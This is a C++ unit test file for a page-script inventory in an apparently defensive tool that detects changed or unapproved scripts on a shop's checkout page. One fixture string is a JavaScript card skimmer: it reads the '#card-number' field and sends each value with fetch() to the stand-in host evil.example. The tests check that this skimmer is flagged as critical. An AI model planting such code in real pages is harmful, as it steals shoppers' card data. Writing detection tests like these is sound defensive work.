#include "agent/script/source/page/page_inventory.h"

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "absl/strings/str_cat.h"
#include "agent/script/judge/script_judge.h"
#include "agent/script/judge/script_version.h"
#include "agent/script/version_store.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/support/temp_folder.h"

namespace skimwatch::script {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::Ge;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;
using ::testing::UnorderedElementsAre;

constexpr char kPage[] = "https://shop.example/checkout";
constexpr char kVendor[] = "https://vendor.example/chat.js?v=1";
constexpr char kVendorName[] = "https://shop.example/checkout#src=https://vendor.example/chat.js";
constexpr char kClean[] =
    "function greet(name) { document.title = 'hello ' + name; }\nfunction ask() { return 1 + 1; }\n"
    "greet('shopper'); ask();\n";
// Reads the card and sends it where nobody sent anything before.
constexpr char kSkimmer[] =
    "function greet(name) { document.title = 'hello ' + name; }\nfunction ask() { return 1 + 1; }\n"
    "greet('shopper'); ask();\n"
    "document.querySelector('#card-number').addEventListener('input', function (e) {\n"
    "  fetch('https://evil.example/c', {method: 'POST', body: e.target.value});\n});\n";

class RecordingSink final : public ScriptSink {
 public:
  struct Change {
    v1::ScriptChange change;
    v1::Severity severity = v1::SEVERITY_UNSPECIFIED;
  };

  void OnChange(std::string_view site, const v1::ScriptChange& change,
                v1::Severity severity) override {
    EXPECT_EQ(site, "shop");
    changes.push_back({change, severity});
  }
  void OnText(std::string_view, std::string_view script, std::string_view) override {
    texts.emplace_back(script);
  }

  // What came since the last call, as `CHANGED name`.
  std::vector<std::string> Take() {
    std::vector<std::string> told;
    for (const Change& one : changes) {
      told.push_back(
          v1::ScriptChange::Change_Name(one.change.change()).substr(sizeof("CHANGE_") - 1) + " " +
          one.change.script());
    }
    changes.clear();
    return told;
  }

  std::vector<Change> changes;
  std::vector<std::string> texts;
};

class PageInventoryTest : public ::testing::Test {
 protected:
  PageInventoryTest() {
    versions_ = *VersionStore::Open(folder_.File("versions"), 16 << 20);
    Open({});
  }

  void Open(const PageState& state) {
    inventory_ = std::make_unique<PageInventory>(
        PageInventory::Options{
            .site = "shop",
            .gone_after = 2,
            .path_template = [](std::string_view path) { return std::string(path); },
            .is_site_host = [](std::string_view host) { return host == "shop.example"; },
            .versions = versions_.get(),
            .judge = &judge_,
            .sink = &sink_},
        state);
  }

  void Approve(const std::vector<std::pair<std::string, std::string>>& scripts) {
    v1::Policy policy;
    for (const auto& [name, text] : scripts) {
      v1::ApprovedScript& one = *policy.add_approved_scripts();
      one.set_site("shop");
      one.set_script(name);
      one.set_sha256(Sha256(text));
    }
    inventory_->SetApprovals(std::make_shared<const Approvals>(policy));
  }

  static SeenScript External(const std::string& address, const std::string& text) {
    return {.page = kPage,
            .seen_as = "external",
            .address = address,
            .text_sha256 = Sha256(text),
            .raw_sha256 = Sha256(text),
            .raw_integrity = VersionOf(text).integrity(),
            .text = text,
            .size_bytes = text.size(),
            .initiator = kPage};
  }
  static SeenScript Code(const std::string& seen_as, const std::string& text) {
    return {.page = kPage,
            .seen_as = seen_as,
            .text_sha256 = Sha256(text),
            .text = text,
            .size_bytes = text.size(),
            .initiator = kVendor};
  }
  static PageRun Run(std::vector<SeenScript> scripts,
                     std::vector<std::pair<std::string, std::string>> headers = {}) {
    PageRun run;
    run.pages.push_back({.address = kPage, .status = 200, .headers = std::move(headers)});
    run.scripts = std::move(scripts);
    return run;
  }

  const testing::TempFolder folder_;
  const ScriptJudge judge_{{}};
  std::unique_ptr<VersionStore> versions_;
  RecordingSink sink_;
  std::unique_ptr<PageInventory> inventory_;
};

TEST_F(PageInventoryTest, ProposesWhatTheFirstWholeLookFinds) {
  inventory_->Apply(Run({External(kVendor, kClean), Code("inline", "var a=1"),
                         Code("eval", "var b=2"), Code("worker", "var c=3")}));
  EXPECT_THAT(sink_.Take(), UnorderedElementsAre("PROPOSED https://shop.example/checkout#headers",
                                                 std::string("PROPOSED ") + kVendorName,
                                                 "PROPOSED https://shop.example/checkout#inline-1",
                                                 "PROPOSED https://shop.example/checkout#eval-1",
                                                 "PROPOSED https://shop.example/checkout#blob-1"));
  EXPECT_EQ(inventory_->scripts(), 5);
  EXPECT_EQ(inventory_->unapproved(), 5);
  inventory_->Apply(Run({External(kVendor, kClean), Code("inline", "var a=1"),
                         Code("eval", "var b=2"), Code("worker", "var c=3")}));
  EXPECT_THAT(sink_.Take(), IsEmpty());
}

TEST_F(PageInventoryTest, JudgesWhatAChangedScriptLearnt) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  sink_.Take();
  inventory_->Apply(Run({External(kVendor, kSkimmer)}));
  ASSERT_THAT(sink_.changes, SizeIs(1));
  const v1::ScriptChange& change = sink_.changes[0].change;
  EXPECT_EQ(change.change(), v1::ScriptChange::CHANGE_CHANGED);
  EXPECT_EQ(change.script(), kVendorName);
  EXPECT_EQ(change.page(), kPage);
  EXPECT_EQ(change.initiator(), kPage);
  EXPECT_EQ(change.seen_as(), "external");
  EXPECT_EQ(change.current().sha256(), Sha256(kSkimmer));
  EXPECT_EQ(change.previous().sha256(), Sha256(kClean));
  EXPECT_EQ(sink_.changes[0].severity, v1::SEVERITY_CRITICAL);
  EXPECT_THAT(change.diff(), HasSubstr("evil.example"));
}

TEST_F(PageInventoryTest, ComparesWithWhatWasApproved) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  Approve({{kVendorName, kClean}});
  EXPECT_EQ(inventory_->unapproved(), 1);
  sink_.Take();
  inventory_->Apply(Run({External(kVendor, kSkimmer)}));
  inventory_->Apply(Run({External(kVendor, kClean)}));
  EXPECT_THAT(sink_.Take(), ElementsAre(std::string("CHANGED ") + kVendorName,
                                        std::string("RESTORED ") + kVendorName));
}

// A file of a web root and a report of a shopper's browser have the same bytes under other names.
TEST_F(PageInventoryTest, ProposesBytesThatAreApprovedUnderAnotherName) {
  inventory_->Apply(Run({}));
  Approve({{"js/chat.js", kClean}});
  sink_.Take();
  inventory_->Apply(Run({External(kVendor, kClean)}));
  EXPECT_THAT(sink_.Take(), ElementsAre(std::string("PROPOSED ") + kVendorName));
}

TEST_F(PageInventoryTest, CallsAScriptOfAnUnknownHostHigh) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  sink_.Take();
  inventory_->Apply(Run({External(kVendor, kClean), External("https://vendor.example/b.js", "b()"),
                         External("https://evil.example/x.js", "x()")}));
  ASSERT_THAT(sink_.changes, SizeIs(2));
  EXPECT_THAT(sink_.changes[0].change.script(), HasSubstr("evil.example"));
  EXPECT_EQ(sink_.changes[0].severity, v1::SEVERITY_HIGH);
  EXPECT_THAT(sink_.changes[1].change.script(), HasSubstr("vendor.example"));
  EXPECT_LT(sink_.changes[1].severity, v1::SEVERITY_HIGH);
}

TEST_F(PageInventoryTest, CallsAScriptRemovedOnceSeveralLooksMissedIt) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  sink_.Take();
  inventory_->Apply(Run({}));
  EXPECT_THAT(sink_.Take(), IsEmpty());
  // A look that came to an early end says nothing of what is missing, nor does one without a
  // browser.
  PageRun early = Run({});
  early.outcome = PageOutcome::kTimeout;
  inventory_->Apply(early);
  PageRun fetched = Run({});
  fetched.is_static = true;
  inventory_->Apply(fetched);
  inventory_->Apply(Run({}));
  EXPECT_THAT(sink_.Take(), IsEmpty());
  inventory_->Apply(Run({}));
  EXPECT_THAT(sink_.Take(), ElementsAre(std::string("REMOVED ") + kVendorName));
  EXPECT_EQ(inventory_->scripts(), 1);
}

TEST_F(PageInventoryTest, TakesWhatAnEarlyEndLeftAndNothingOfAPageThatDidNotLoad) {
  inventory_->Apply(Run({}));
  sink_.Take();
  PageRun run = Run({Code("inline", "var a=1")});
  run.outcome = PageOutcome::kNotLoaded;
  inventory_->Apply(run);
  EXPECT_THAT(sink_.Take(), IsEmpty());
  run.outcome = PageOutcome::kStepFailed;
  inventory_->Apply(run);
  EXPECT_THAT(sink_.Take(), ElementsAre("ADDED https://shop.example/checkout#inline-1"));
}

// Whoever may write to the server may also send shoppers to a page of another name.
TEST_F(PageInventoryTest, CallsWhatIsOnAPageThatWasNotThereBeforeAdded) {
  PageRun early = Run({Code("inline", "var a=1")});
  early.outcome = PageOutcome::kIncomplete;
  inventory_->Apply(early);
  inventory_->Apply(Run({Code("inline", "var a=1"), Code("inline", "var b=1")}));
  EXPECT_THAT(sink_.Take(),
              UnorderedElementsAre("PROPOSED https://shop.example/checkout#headers",
                                   "PROPOSED https://shop.example/checkout#inline-1",
                                   "PROPOSED https://shop.example/checkout#inline-2"));
  PageRun run = Run({External("https://evil.example/x.js", "x()")});
  run.pages[0].address = "https://shop.example/checkout2";
  run.scripts[0].page = run.pages[0].address;
  inventory_->Apply(run);
  ASSERT_THAT(sink_.changes, SizeIs(2));
  EXPECT_THAT(sink_.changes[1].change.script(), HasSubstr("evil.example"));
  EXPECT_EQ(sink_.changes[1].severity, v1::SEVERITY_HIGH);
  EXPECT_THAT(sink_.Take(),
              ElementsAre("ADDED https://shop.example/checkout2#headers",
                          "ADDED https://shop.example/checkout2#src=https://evil.example/x.js"));
}

TEST_F(PageInventoryTest, DoesNotTakeBytesThatAreKnownForTheTextOfOthers) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  sink_.Take();
  PageRun run = Run({External(kVendor, kSkimmer)});
  run.scripts[0].raw_sha256 = Sha256(kClean);
  inventory_->Apply(run);
  ASSERT_THAT(sink_.changes, SizeIs(1));
  EXPECT_EQ(sink_.changes[0].change.current().sha256(), Sha256(kSkimmer));
  EXPECT_EQ(sink_.changes[0].severity, v1::SEVERITY_CRITICAL);
}

TEST_F(PageInventoryTest, RecognisesCodeWithoutAnAddressWhereverItMoved) {
  inventory_->Apply(Run({Code("inline", "var a=1"), Code("inline", "var b=2")}));
  sink_.Take();
  inventory_->Apply(
      Run({Code("inline", "var new_one=0"), Code("inline", "var a=1"), Code("inline", "var b=2")}));
  EXPECT_THAT(sink_.Take(), ElementsAre("ADDED https://shop.example/checkout#inline-3"));
}

TEST_F(PageInventoryTest, TellsOnceOfAScriptThatDiffersFromLookToLook) {
  const auto with_token = [](int token) {
    return "window.session = '" + std::string(12, static_cast<char>('a' + token)) + "';";
  };
  inventory_->Apply(Run({Code("inline", with_token(0))}));
  sink_.Take();
  for (int i = 1; i <= 3; ++i) inventory_->Apply(Run({Code("inline", with_token(i))}));
  ASSERT_THAT(sink_.changes, SizeIs(3));
  EXPECT_EQ(sink_.changes[2].severity, v1::SEVERITY_LOW);
  std::vector<std::string> facts;
  for (const v1::ScriptFact& fact : sink_.changes[2].change.facts()) facts.push_back(fact.name());
  EXPECT_THAT(facts, Contains("many_versions"));
  sink_.Take();
  for (int i = 4; i <= 9; ++i) inventory_->Apply(Run({Code("inline", with_token(i))}));
  EXPECT_THAT(sink_.Take(), IsEmpty());
  // What it does beyond that is told all the same.
  inventory_->Apply(Run({Code("inline", with_token(10) + kSkimmer)}));
  ASSERT_THAT(sink_.changes, SizeIs(1));
  EXPECT_EQ(sink_.changes[0].severity, v1::SEVERITY_CRITICAL);
}

TEST_F(PageInventoryTest, SaysDirectiveByDirectiveHowHeadersChanged) {
  inventory_->Apply(Run({}, {{"content-security-policy", "script-src 'self'"}}));
  sink_.Take();
  inventory_->Apply(Run({}, {{"content-security-policy", "script-src 'self' https://e.example"}}));
  ASSERT_THAT(sink_.changes, SizeIs(1));
  const v1::ScriptChange& change = sink_.changes[0].change;
  EXPECT_EQ(change.script(), "https://shop.example/checkout#headers");
  EXPECT_EQ(sink_.changes[0].severity, v1::SEVERITY_HIGH);
  EXPECT_THAT(change.reasons(),
              ElementsAre("content-security-policy script-src: gained https://e.example"));
  EXPECT_THAT(change.diff(), HasSubstr("+content-security-policy: script-src 'self' https://e"));
}

TEST_F(PageInventoryTest, LeavesTheScriptsOfOthersFramesToThem) {
  PageRun run = Run({Code("inline", "var a=1")});
  run.scripts[0].third_party_frame = true;
  run.frames.push_back({.page = kPage, .address = "https://pay.example/form"});
  inventory_->Apply(run);
  EXPECT_THAT(sink_.Take(), UnorderedElementsAre("PROPOSED https://shop.example/checkout#headers",
                                                 "PROPOSED https://shop.example/checkout#frame="
                                                 "https://pay.example/form"));
}

TEST_F(PageInventoryTest, GoesOnFromItsState) {
  inventory_->Apply(Run({External(kVendor, kClean), Code("inline", "var a=1")}));
  sink_.Take();
  const PageState state = inventory_->State();
  Open(state);
  EXPECT_THAT(inventory_->KnownTexts(), Contains(Sha256(kClean)));
  // A text that is known is not read again.
  PageRun run = Run({External(kVendor, kClean), Code("inline", "var a=1")});
  for (SeenScript& script : run.scripts) script.text.reset();
  inventory_->Apply(run);
  EXPECT_THAT(sink_.Take(), IsEmpty());
}

TEST_F(PageInventoryTest, TakesAScriptWhoseBytesWereNotToBeHadForTheSame) {
  inventory_->Apply(Run({External(kVendor, kClean)}));
  sink_.Take();
  PageRun run = Run({External(kVendor, kClean)});
  // As of bytes with a mark of their order before the text.
  run.scripts[0].raw_sha256.clear();
  inventory_->Apply(run);
  EXPECT_THAT(sink_.Take(), IsEmpty());
}

TEST_F(PageInventoryTest, ShowsNoCardNumberOfAnAddress) {
  const std::vector<std::string> numbers = {
      "4111111111111111", "NDExMTExMTExMTExMTExMQ==", "34313131313131313131313131313131",
      "%34%31%31%31%31%31%31%31%31%31%31%31%31%31%31%31"};
  std::vector<SeenScript> scripts;
  for (const std::string& number : numbers) {
    scripts.push_back(External(
        absl::StrCat("https://vendor.example/", scripts.size(), "/", number, "/x.js?n=", number),
        "x()"));
  }
  inventory_->Apply(Run(scripts));
  ASSERT_THAT(sink_.changes, SizeIs(Ge(numbers.size())));
  for (const RecordingSink::Change& one : sink_.changes) {
    for (const std::string& number : numbers) {
      EXPECT_EQ(one.change.DebugString().find(number), std::string::npos);
    }
  }
  for (const std::string& number : numbers) {
    EXPECT_EQ(inventory_->State().DebugString().find(number), std::string::npos);
  }
}

}  // namespace
}  // namespace skimwatch::script
